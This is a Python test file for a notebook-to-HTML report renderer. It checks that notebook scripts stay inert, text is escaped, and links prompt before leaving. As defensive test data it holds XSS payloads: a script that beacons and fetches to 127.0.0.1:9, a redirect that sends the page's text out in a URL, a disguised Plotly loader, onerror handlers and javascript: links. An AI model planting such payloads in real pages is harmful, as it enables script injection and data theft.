"""Executed notebooks as pages: what they show, and that their scripts stay where they are."""

import gzip
import html
from base64 import b64encode
from pathlib import Path

import nbformat
import pytest
from nbconvert import HTMLExporter
from nbformat.v4 import new_code_cell, new_markdown_cell, new_notebook, new_output, new_raw_cell

from colab_starter.report import notebooks
from colab_starter.report.notebooks import WORTH_WORKERS, page_of, render_all
from tests.report.browser import Browser

FIGURE = {"data": [{"type": "scatter", "y": [1, 3, 2], "name": "</script>"}], "layout": {"title": {"text": "Loss"}}}

ATTACK = """
<script>
  document.body.dataset.ran = "yes";
  try { parent.document.title = "taken over"; } catch { document.body.dataset.parent = "out of reach"; }
  try { localStorage.x = 1; } catch { document.body.dataset.storage = "out of reach"; }
  try { top.location = "http://127.0.0.1:9/top"; } catch { document.body.dataset.top = "out of reach"; }
  fetch("http://127.0.0.1:9/fetch").catch(() => { document.body.dataset.network = "out of reach"; });
  new Image().src = "http://127.0.0.1:9/image";
  window.open("http://127.0.0.1:9/window");
</script>
<form id="f" action="http://127.0.0.1:9/form"></form><script>document.getElementById("f").submit();</script>
"""


def make_page(folder: Path, *cells: nbformat.NotebookNode) -> Path:
    """The page of a notebook with these cells."""
    notebook = folder / "lesson.ipynb"
    nbformat.write(new_notebook(cells=list(cells)), notebook)
    assert render_all([notebook], folder / "report.html", lambda: None, workers=1) == {}
    return page_of(notebook)


def make_output(mime: str, data: object) -> nbformat.NotebookNode:
    """A cell with one output."""
    cell: nbformat.NotebookNode = new_code_cell("1", outputs=[new_output("display_data", data={mime: data})])
    return cell


def test_a_page_is_small_and_shows_the_cells(tmp_path: Path, browser: Browser) -> None:
    text = new_output("stream", text="\x1b[31mred\x1b[0m\n")
    page = make_page(tmp_path, new_markdown_cell("# Digits"), new_code_cell("print(1)", outputs=[text]))
    assert page.stat().st_size < 40_000
    browser.open(page)
    browser.wait_until("document.querySelector('h1')", in_frame=True)
    shown = browser.evaluate("document.body.innerText", in_frame=True)
    assert all(words in shown for words in ("Digits", "print(1)", "red"))
    assert (browser.errors, browser.dialogs, browser.requests) == ([], [], [page.as_uri()])


def test_plotly_figures_are_drawn_without_a_network(tmp_path: Path, browser: Browser) -> None:
    cells = [make_output("application/vnd.plotly.v1+json", FIGURE) for _ in range(3)]
    page = make_page(tmp_path, *cells)
    assert page.stat().st_size < 3_000_000
    browser.open(page)
    browser.wait_until("document.querySelectorAll('.scatterlayer .trace').length === 3", in_frame=True)
    assert (browser.errors, browser.requests) == ([], [page.as_uri()])


def test_scripts_of_a_notebook_do_not_run_and_the_page_says_so(tmp_path: Path, browser: Browser) -> None:
    """Whatever runs reaches the network: no sandbox and no policy keeps WebRTC and early connections from it."""
    markup = make_output("text/html", f"{ATTACK}<img src=data:, onerror='document.body.dataset.ran = 1'>")
    page = make_page(tmp_path, markup, new_markdown_cell("<img alt=x src=http://127.0.0.1:9/x>"))
    browser.open(page)
    browser.wait_until("document.querySelector('.rests')", in_frame=True)
    assert "do not run here" in browser.evaluate("document.body.innerText", in_frame=True)
    assert browser.evaluate("document.body.dataset.ran || ''", in_frame=True) == ""
    assert browser.evaluate("document.title") == "lesson.ipynb: " + tmp_path.name
    browser.wait_for_requests([page.as_uri()])
    assert not [address for address in browser.find_pages() if "127.0.0.1" in address]


def test_a_notebook_cannot_have_a_script_of_its_own_run_as_plotly(tmp_path: Path, browser: Browser) -> None:
    script = b64encode(gzip.compress(b"document.body.dataset.ran = 1; window.Plotly = {newPlot() {}}")).decode()
    fake = f'<p id="plots-library">{script}</p><script type="text/plain" id="plots-library">{script}</script>'
    page = make_page(tmp_path, make_output("text/html", fake), make_output("application/vnd.plotly.v1+json", FIGURE))
    browser.open(page)
    browser.wait_until("document.body.dataset.ran || document.querySelector('.scatterlayer .trace')", in_frame=True)
    assert browser.evaluate("document.body.dataset.ran || ''", in_frame=True) == ""
    assert browser.errors == []


def test_a_notebook_cannot_put_another_page_in_its_place(tmp_path: Path, browser: Browser) -> None:
    leave = "<script>location = 'http://127.0.0.1:9/elsewhere?' + encodeURIComponent(document.body.innerText)</script>"
    page = make_page(tmp_path, make_output("text/html", leave))
    browser.open(page)
    browser.wait_until("performance.now() > 1500")
    browser.wait_for_requests([page.as_uri()])
    assert browser.evaluate("location.href") == page.as_uri()


def test_a_link_shows_where_it_leads_before_anybody_goes_there(tmp_path: Path, browser: Browser) -> None:
    markup = "<a id=link href='http://127.0.0.1:9/there?a=1' style='position: fixed; inset: 0'>all over the page</a>"
    page = make_page(tmp_path, make_output("text/html", markup))
    browser.open(page)
    browser.wait_until("document.getElementById('link')", in_frame=True)
    browser.click(400, 400)
    browser.wait_until("document.getElementById('leave').open")
    assert browser.evaluate("document.querySelector('#leave code').innerText") == "http://127.0.0.1:9/there?a=1"
    link = browser.evaluate("(({href, rel, target}) => [href, rel, target])(document.querySelector('#leave a'))")
    assert link == ["http://127.0.0.1:9/there?a=1", "noopener noreferrer", "_blank"]
    browser.evaluate("document.querySelector('#leave button').click()")
    browser.wait_until("!document.getElementById('leave').open")
    browser.wait_for_requests([page.as_uri()])
    assert not [address for address in browser.find_pages() if "127.0.0.1" in address]


LINKS = {
    "#heading": False,
    "javascript:alert(1)": False,
    "data:text/html,x": False,
    "other.ipynb": True,
    "mailto:ada@example.org": True,
    "//example.org/x": True,
}
"""Whether each leads to another page."""


def test_only_links_to_other_pages_are_asked_about(tmp_path: Path, browser: Browser) -> None:
    links = "".join(f"<svg><a xlink:href='{address}'><text>link</text></a></svg>" for address in LINKS)
    browser.open(make_page(tmp_path, make_output("text/html", links)))
    browser.wait_until(f"document.querySelectorAll('svg text').length === {len(LINKS)}", in_frame=True)
    asked = {address: _is_asked_about(browser, place) for place, address in enumerate(LINKS)}
    assert asked == LINKS
    assert browser.dialogs == []


def _is_asked_about(browser: Browser, place: int) -> bool:
    """Click a link; the message after the click is told when all that the click told has been heard."""
    last = f"nothing:{place}"
    heard = f"if (event.data.address === '{last}') done(document.getElementById('leave').open)"
    browser.evaluate(f"void (window.told = new Promise(done => {{ onmessage = event => {{ {heard} }} }}))")
    click = "new MouseEvent('click', {bubbles: true, cancelable: true, composed: true})"
    browser.evaluate(f"document.querySelectorAll('svg text')[{place}].dispatchEvent({click})", in_frame=True)
    browser.evaluate(f"parent.postMessage({{address: '{last}'}}, '*')", in_frame=True)
    is_open: bool = browser.evaluate("window.told")
    browser.evaluate("document.getElementById('leave').close()")
    return is_open


def test_links_work_with_the_keyboard_and_inside_the_notebook(tmp_path: Path, browser: Browser) -> None:
    cells = [
        new_markdown_cell("[down](#far) and [away](https://example.org/x)"),
        new_markdown_cell("line\n\n" * 100),
    ]
    browser.open(make_page(tmp_path, *cells, new_markdown_cell("<p id=far>Far below</p>")))
    browser.wait_until("document.querySelector('[role=link]')", in_frame=True)
    browser.evaluate(
        "document.querySelector('[href=\"#far\"]').dispatchEvent(new MouseEvent('click', {bubbles: true}))",
        in_frame=True,
    )
    browser.wait_until("scrollY > 500", in_frame=True)
    assert not browser.evaluate("document.getElementById('leave').open")
    away = "document.querySelector('[title=\"https://example.org/x\"]')"
    browser.evaluate(
        f"{away}.dispatchEvent(new KeyboardEvent('keydown', {{key: 'Enter', bubbles: true}}))", in_frame=True
    )
    browser.wait_until("document.getElementById('leave').open")


def test_elements_that_connect_by_themselves_are_none_any_more_and_others_stay(
    tmp_path: Path, browser: Browser
) -> None:
    connect = (
        "<LINK rel=preconnect href=//x><meta http-equiv=refresh content=9><iframe srcdoc=x></iframe><base href=//x>"
    )
    keep = (
        "<table class=dataframe><tr><td>1</table><svg viewBox='0 0 9 9'><linearGradient id=g /><path d='M0 0'/></svg>"
    )
    browser.open(make_page(tmp_path, make_output("text/html", connect + keep)))
    browser.wait_until("document.querySelector('linearGradient')", in_frame=True)
    count = "[...document.querySelectorAll('.output_area *')].filter(e => e.matches('link, meta, iframe, base')).length"
    assert browser.evaluate(count, in_frame=True) == 0
    assert browser.evaluate("document.querySelectorAll('.dataframe td, svg path').length", in_frame=True) == 2


def test_text_outputs_are_escaped(tmp_path: Path, browser: Browser) -> None:
    texts = ["</script>", '"><img src=x>', "'", "</iframe>", "&lt;b&gt;", "after all"]
    browser.open(make_page(tmp_path, *(make_output("text/plain", text) for text in texts)))
    browser.wait_until("document.body.innerText.includes('after all')", in_frame=True)
    shown = "[...document.querySelectorAll('.output_text pre')].map(output => output.innerText)"
    assert browser.evaluate(shown, in_frame=True) == texts


def test_the_page_of_a_failed_run_opens_at_its_error(tmp_path: Path, browser: Browser) -> None:
    """Not at an error that was expected, and not at the top."""
    error = new_output("error", ename="E", evalue="bad", traceback=["Traceback", "E: bad"])
    failed = new_code_cell("1 / 0", outputs=[error], metadata={"papermill": {"status": "failed"}})
    expected = new_code_cell("1 / 0", outputs=[error], metadata={"papermill": {"status": "completed"}})
    source = "\n".join(f"line = {number}" for number in range(99))
    long = [[new_code_cell(source) for _ in range(3)] for _ in range(5)]
    find = "document.querySelector('.failed-cell .output_error')"
    browser.open(make_page(tmp_path, *long[0], expected, *long[1], failed, *long[2]))
    browser.wait_until(f"scrollY > 0 && {find}.getBoundingClientRect().top < innerHeight", in_frame=True)
    assert browser.evaluate(f"{find}.getBoundingClientRect().bottom > 0", in_frame=True)
    browser.open(make_page(tmp_path, *long[3], expected, *long[4]))
    browser.wait_until("document.readyState === 'complete'", in_frame=True)
    assert browser.evaluate("scrollY", in_frame=True) == 0


def test_a_long_output_is_shortened(tmp_path: Path) -> None:
    page = make_page(tmp_path, new_code_cell("x", outputs=[new_output("stream", text="x" * 5_000_000)]))
    assert page.stat().st_size < 300_000
    assert "4,900,000 characters are left out here" in page.read_text()


MISSING = "The ![picture](attachment:gone.png) is gone"


@pytest.mark.parametrize(
    "cell", [new_markdown_cell(MISSING), make_output("text/markdown", MISSING)], ids=["text", "output"]
)
def test_a_cell_that_cannot_be_rendered_is_shown_as_plain_text(cell: nbformat.NotebookNode, tmp_path: Path) -> None:
    page = make_page(tmp_path, new_markdown_cell("# Before"), cell, new_markdown_cell("# After"))
    text = html.unescape(html.unescape(page.read_text()))
    assert MISSING in text
    assert all(f"<h1>{title}</h1>" in text for title in ("Before", "After"))


def test_what_has_no_form_that_a_page_can_show_is_left_out(tmp_path: Path, recwarn: pytest.WarningsRecorder) -> None:
    cells = [make_output(mime, "hidden") for mime in ("application/scrapbook.scrap.json+json", "odd", "")]
    assert "hidden" not in make_page(tmp_path, *cells, make_output("text/plain", "shown")).read_text()
    assert not recwarn.list


def test_many_notebooks_are_rendered_by_several_processes(tmp_path: Path) -> None:
    notebooks = [tmp_path / f"{number}.ipynb" for number in range(WORTH_WORKERS)]
    for notebook in notebooks:
        nbformat.write(new_notebook(cells=[new_code_cell("1")]), notebook)
    notebooks[3].write_text("no notebook")
    steps: list[None] = []
    failures = render_all(notebooks, tmp_path / "report.html", lambda: steps.append(None), workers=2)
    assert [*failures] == [notebooks[3]]
    assert len(steps) == WORTH_WORKERS
    assert all(page_of(notebook).exists() for notebook in notebooks if notebook not in failures)


def test_cells_that_notebooks_have_in_common_are_rendered_once(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    exported: list[str] = []
    export = notebooks.export_cell

    def note(cell: nbformat.NotebookNode, language: str | None) -> str:
        exported.append(cell.source)
        return export(cell, language)

    monkeypatch.setattr(notebooks, "export_cell", note)
    shared = [new_markdown_cell(f"# {tmp_path}"), new_code_cell(f"shared = '{tmp_path}'", execution_count=1)]
    paths = [tmp_path / f"{number}.ipynb" for number in range(5)]
    for number, path in enumerate(paths):
        own = new_code_cell(f"own = {number}", outputs=[new_output("stream", text=f"{number}\n")])
        timed = [nbformat.from_dict({**cell, "metadata": {"papermill": {"duration": number}}}) for cell in shared]
        nbformat.write(new_notebook(cells=[*timed, own]), path)
    assert render_all(paths, tmp_path / "report.html", lambda: None, workers=1) == {}
    assert exported == [f"# {tmp_path}", f"shared = '{tmp_path}'", *(f"own = {number}" for number in range(5))]
    assert all("own</span>" in html.unescape(page_of(path).read_text()) for path in paths)


MIXED = [
    new_markdown_cell("# Title\n\n$a_1$ and `code`\n\n| a | b |\n|---|---|\n| 1 | 2 |"),
    new_code_cell("%%bash\nls -l | wc", execution_count=1),
    new_code_cell("def f(x):\n    return x < 1 and '<b>'", metadata={"tags": ["parameters"]}, execution_count=2),
    new_code_cell("x", outputs=[new_output("error", ename="E", evalue="bad", traceback=["\x1b[31mE\x1b[0m: <bad>"])]),
    make_output("text/html", "<table class=dataframe><tr><td>1 &amp; 2</table><p>open <b>bold"),
    make_output("image/png", "iVBORw0KGgo="),
    make_output("text/markdown", "**bold** <i>and</i> so on"),
    new_raw_cell("raw"),
    new_code_cell("", outputs=[new_output("execute_result", data={"text/plain": "1 < 2"}, execution_count=7)]),
]


@pytest.mark.parametrize("language", [None, "python", "R"])
def test_cells_rendered_one_by_one_are_as_nbconvert_renders_them(language: str | None) -> None:
    about = {"language_info": {"name": language}} if language else {}
    node = new_notebook(cells=MIXED, metadata=about)
    config = {"NbConvertBase": {"display_data_priority": list(notebooks.SHOWN)}}
    exporter = HTMLExporter(template_name="basic", exclude_anchor_links=True, config=config)
    whole = [exporter.from_notebook_node(new_notebook(cells=[cell], metadata=about))[0] for cell in node.cells]
    assert notebooks.render_cells(node) == "".join(whole)
    tidy = [cell for cell in node.cells if cell.cell_type != "raw" and "open" not in str(cell)]
    closed = new_notebook(cells=tidy, metadata=about)
    assert notebooks.render_cells(closed) == exporter.from_notebook_node(closed)[0]
